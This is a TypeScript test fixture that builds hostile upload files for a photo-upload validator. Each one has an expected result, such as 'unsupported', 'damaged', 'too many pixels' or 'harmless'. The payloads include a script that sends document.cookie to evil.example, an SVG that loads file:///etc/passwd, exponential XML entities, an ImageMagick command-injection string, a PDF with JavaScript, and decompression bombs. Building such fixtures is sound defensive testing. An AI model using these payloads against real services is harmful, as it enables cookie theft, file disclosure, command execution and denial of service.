/**
 * Hostile files that are uploaded instead of a photo. They are generated here, so that the
 * repository contains none of them.
 */
import { crc32, deflateSync, gzipSync } from 'node:zlib'

import sharp from 'sharp'

import type { PhotoProblem } from '#server/catalogue/pictures/prepare-photo.ts'

type HostileFile = { name: string; bytes: Buffer; outcome: PhotoProblem | 'harmless' }

const [width, height] = [800, 600]

/** Returns a picture that is accepted, to be encoded or changed. */
export const createPlainPicture = () =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 120, b: 90 } } })

export const jpeg = await createPlainPicture().jpeg().toBuffer()
const png = await createPlainPicture().png().toBuffer()
const webp = await createPlainPicture().webp().toBuffer()
const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const createSvg = (inside: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">${inside}</svg>`)

/** Returns a grey PNG with a header, picture data and at most one extra chunk. */
function createPng(
  [pngWidth, pngHeight]: [number, number],
  options: { extraChunk?: Buffer; scanLines?: Buffer },
) {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(pngWidth, 0)
  header.writeUInt32BE(pngHeight, 4)
  // Bit depth, colour type, compression, filter and interlacing.
  header.set([8, 0, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    createChunk('IHDR', header),
    options.extraChunk ?? Buffer.alloc(0),
    createChunk('IDAT', deflateSync(options.scanLines ?? Buffer.alloc(64))),
    createChunk('IEND', Buffer.alloc(0)),
  ])
}

function createChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const checksum = Buffer.alloc(4)
  checksum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, checksum])
}

const insertBytes = (file: Buffer, offset: number, inserted: Buffer) =>
  Buffer.concat([file.subarray(0, offset), inserted, file.subarray(offset)])

/** Returns the JPEG with a segment of text after its first marker. */
function insertJpegSegment(marker: number, text: string): Buffer {
  const payload = Buffer.from(text, 'latin1')
  const segmentHeader = Buffer.from([
    0xff,
    marker,
    (payload.length + 2) >> 8,
    (payload.length + 2) & 255,
  ])
  return insertBytes(jpeg, 2, Buffer.concat([segmentHeader, payload]))
}

/** Returns the JPEG with another size in its header: two bytes of height, two bytes of width. */
function changeJpegSize(size: readonly [number, number, number, number]): Buffer {
  // The segment SOF0: its marker, two bytes of length, one of precision, then the size.
  const sizeOffset = jpeg.indexOf(Buffer.from([0xff, 0xc0])) + 5
  const changedJpeg = Buffer.from(jpeg)
  changedJpeg.set(size, sizeOffset)
  return changedJpeg
}

/** The lines of a valid grey picture of the usual size; each begins with a filter byte. */
const scanLines = Buffer.alloc((width + 1) * height, 0)
/** A decompression bomb: 50 million zeros, compressed to 50 kB. */
const decompressionBomb = deflateSync(Buffer.alloc(50_000_000))

export const hostileFiles: readonly HostileFile[] = [
  { name: 'an empty file', bytes: Buffer.alloc(0), outcome: 'empty' },
  { name: 'one byte', bytes: Buffer.from([0xff]), outcome: 'unsupported' },
  { name: 'plain text', bytes: Buffer.from('a picture, honestly'), outcome: 'unsupported' },
  {
    name: 'a page named photo.png',
    bytes: Buffer.from(`<html>${script}</html>`),
    outcome: 'unsupported',
  },
  { name: 'an SVG with a script', bytes: createSvg(script), outcome: 'unsupported' },
  {
    name: 'an SVG that loads a file',
    bytes: createSvg('<image href="file:///etc/passwd"/>'),
    outcome: 'unsupported',
  },
  {
    name: 'an SVG with exponential entities',
    bytes: Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}">]><svg>&b;</svg>`,
    ),
    outcome: 'unsupported',
  },
  { name: 'a gzipped SVG', bytes: gzipSync(createSvg(script)), outcome: 'unsupported' },
  {
    name: 'an SVG after a byte order mark',
    bytes: Buffer.from(`\ufeff  ${createSvg(script)}`),
    outcome: 'unsupported',
  },
  {
    name: 'a PDF',
    bytes: Buffer.from('%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>'),
    outcome: 'unsupported',
  },
  {
    name: 'a GIF that is a script',
    bytes: Buffer.from('GIF89a/*'.padEnd(90, '*')),
    outcome: 'unsupported',
  },
  {
    name: 'a real GIF',
    bytes: await createPlainPicture().gif().toBuffer(),
    outcome: 'unsupported',
  },
  {
    name: 'an AVIF',
    bytes: await createPlainPicture().avif({ effort: 0 }).toBuffer(),
    outcome: 'unsupported',
  },
  { name: 'a TIFF', bytes: await createPlainPicture().tiff().toBuffer(), outcome: 'unsupported' },
  { name: 'a ZIP', bytes: Buffer.from('PK\x03\x04evil.js'), outcome: 'unsupported' },
  {
    name: 'a program',
    bytes: Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
    outcome: 'unsupported',
  },
  {
    name: 'an ImageMagick script (MVG)',
    bytes: Buffer.from('push graphic-context\nurl(|id)'),
    outcome: 'unsupported',
  },
  { name: 'a BMP header', bytes: Buffer.from('BM\x36\x00\x00\x00'), outcome: 'unsupported' },
  {
    name: 'an HEIC header',
    bytes: Buffer.from('\0\0\0\x18ftypheic', 'latin1'),
    outcome: 'unsupported',
  },
  { name: 'only the first bytes of a JPEG', bytes: jpeg.subarray(0, 3), outcome: 'damaged' },
  { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2), outcome: 'damaged' },
  { name: 'half a PNG', bytes: png.subarray(0, png.length / 2), outcome: 'damaged' },
  { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2), outcome: 'damaged' },
  {
    name: 'a PNG signature before a page',
    bytes: insertBytes(png, 8, Buffer.from(script)),
    outcome: 'damaged',
  },
  {
    name: 'a WebP header before text',
    bytes: Buffer.from(`RIFF\x10\0\0\0WEBP${script}`),
    outcome: 'damaged',
  },
  {
    name: 'a PNG with wrong checksums',
    bytes: Buffer.from(png).fill(7, 40, 48),
    outcome: 'damaged',
  },
  {
    name: 'a PNG of a million by a million',
    bytes: createPng([1e6, 1e6], {}),
    outcome: 'too many pixels',
  },
  {
    name: 'a PNG of 30,000 by 30,000',
    bytes: createPng([3e4, 3e4], { scanLines: decompressionBomb }),
    outcome: 'too many pixels',
  },
  { name: 'a PNG without size', bytes: createPng([0, 0], {}), outcome: 'damaged' },
  { name: 'a PNG that ends too early', bytes: createPng([width, height], {}), outcome: 'damaged' },
  {
    name: 'a JPEG with a false size in its header',
    bytes: changeJpegSize([0x80, 0, 0x80, 0]),
    outcome: 'too many pixels',
  },
  {
    name: 'a picture that is too wide',
    bytes: await createPlainPicture().resize(4000, 700, { fit: 'fill' }).png().toBuffer(),
    outcome: 'too elongated',
  },
  {
    name: 'a picture that is too small',
    bytes: await createPlainPicture().resize(40, 40).png().toBuffer(),
    outcome: 'too small',
  },
  {
    name: 'an animated WebP',
    bytes: await sharp(
      // Each frame has another grey, or the encoder would merge them.
      Buffer.concat(
        Array.from({ length: 20 }, (_, frame) => Buffer.alloc(scanLines.length, frame * 9)),
      ),
      { raw: { width: width + 1, height: height * 20, pageHeight: height, channels: 1 } },
    )
      .webp({ loop: 0, delay: Array.from({ length: 20 }, () => 50) })
      .toBuffer(),
    outcome: 'animated',
  },
  // Valid pictures with something else inside.
  {
    name: 'a JPEG with a page after its end',
    bytes: Buffer.concat([jpeg, Buffer.from(script)]),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with a ZIP behind it',
    bytes: Buffer.concat([jpeg, Buffer.from('PK\x03\x04evil.js')]),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with a page as its comment',
    bytes: insertJpegSegment(0xfe, script),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with XMP',
    bytes: insertJpegSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0${script}`),
    outcome: 'harmless',
  },
  {
    name: 'a JPEG with its GPS position',
    bytes: await createPlainPicture()
      .withExif({
        IFD0: { Artist: script },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '3/1 8/1 0/1' },
      })
      .jpeg()
      .toBuffer(),
    outcome: 'harmless',
  },
  {
    name: 'a PNG with a decompression bomb as text',
    bytes: createPng([width, height], {
      scanLines,
      extraChunk: createChunk('zTXt', Buffer.concat([Buffer.from('a\0\0'), decompressionBomb])),
    }),
    outcome: 'harmless',
  },
  {
    name: 'a PNG with a decompression bomb as colour profile',
    bytes: createPng([width, height], {
      scanLines,
      extraChunk: createChunk('iCCP', Buffer.concat([Buffer.from('a\0\0'), decompressionBomb])),
    }),
    outcome: 'harmless',
  },
  {
    name: 'a PNG with a page as text',
    bytes: createPng([width, height], {
      scanLines,
      extraChunk: createChunk('tEXt', Buffer.from(`c\0${script}`)),
    }),
    outcome: 'harmless',
  },
  {
    name: 'an animated PNG',
    bytes: createPng([width, height], {
      scanLines,
      extraChunk: createChunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])),
    }),
    outcome: 'harmless',
  },
]
